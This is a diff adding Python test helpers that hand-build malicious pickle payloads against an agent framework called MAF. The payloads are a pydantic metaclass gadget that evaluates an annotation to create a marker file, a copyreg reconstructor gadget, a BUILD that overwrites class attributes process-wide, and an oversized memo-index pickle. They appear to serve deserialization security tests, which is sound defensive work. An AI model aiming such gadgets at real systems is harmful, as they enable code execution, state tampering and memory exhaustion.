@@ -103,3 +103,70 @@ def attacker_serde() -> object:
             return super().dumps_typed(obj)
 
     return _Attacker()
+
+
+# -- MAF: gadgets of a pickle that reaches a metaclass, a constructor or a class ----------------
+def _op_str(text: str) -> bytes:
+    data = text.encode("utf-8")
+    return b"X" + len(data).to_bytes(4, "little") + data
+
+
+def _op_global(module: str, name: str) -> bytes:
+    return f"c{module}\n{name}\n".encode()
+
+
+def metaclass_pickle(
+    marker: Path, model: str = "agent_framework.security:InspectVariableInput"
+) -> bytes:
+    """``type(<pydantic model>)`` is ``ModelMetaclass``; a NEWOBJ on it makes a model class whose
+    string annotation pydantic evaluates (creating ``marker``)."""
+    module, _, name = model.partition(":")
+    annotation = f"{touch_expression(marker)} or int"
+    return (
+        b"\x80\x04"
+        + _op_global("builtins", "type")
+        + _op_global(module, name)
+        + b"\x85R"  # TUPLE1, REDUCE: type(model) -> ModelMetaclass
+        + _op_str("Planted")
+        + _op_global(module, name)
+        + b"\x85"  # bases: (model,)
+        + b"}"  # the class body: {"__annotations__": {"x": annotation}, "__module__": module}
+        + _op_str("__annotations__")
+        + b"}"
+        + _op_str("x")
+        + _op_str(annotation)
+        + b"ss"
+        + _op_str("__module__")
+        + _op_str(module)
+        + b"s"
+        + b"\x87\x81."  # TUPLE3, NEWOBJ: ModelMetaclass.__new__(mcs, name, bases, namespace)
+    )
+
+
+def reconstructor_pickle(directory: Path, cls: str) -> bytes:
+    """``copyreg._reconstructor(cls, cls, str(directory))``: pickle then runs
+    ``cls.__init__(obj, str(directory))`` (MAF's ``FileCheckpointStorage`` makes the folder)."""
+    module, _, name = cls.partition(":")
+    return (
+        b"\x80\x02"
+        + _op_global("copyreg", "_reconstructor")
+        + _op_global(module, name)
+        + _op_global(module, name)
+        + _op_str(str(directory))
+        + b"\x87R."  # TUPLE3, REDUCE
+    )
+
+
+def build_on_class_pickle(cls: str, attribute: str, value: str, *, slots: bool = False) -> bytes:
+    """``BUILD`` applied to a class (pickle then sets ``cls.attribute = value`` for the whole
+    process), followed by an innocent ``{'n': 1}`` as the decoded value."""
+    module, _, name = cls.partition(":")
+    state = b"}" + _op_str(attribute) + _op_str(value) + b"s"
+    if slots:
+        state = b"N" + state + b"\x86"  # (None, {attribute: value}): the slot-state form
+    return b"\x80\x04" + _op_global(module, name) + state + b"b0" + b"}" + _op_str("n") + b"K\x01s."
+
+
+def memo_index_pickle(index: int) -> bytes:
+    """A 9-byte pickle storing a list at memo ``index`` (C pickle sizes its memo to it)."""
+    return b"\x80\x04]" + b"r" + index.to_bytes(4, "little") + b"."
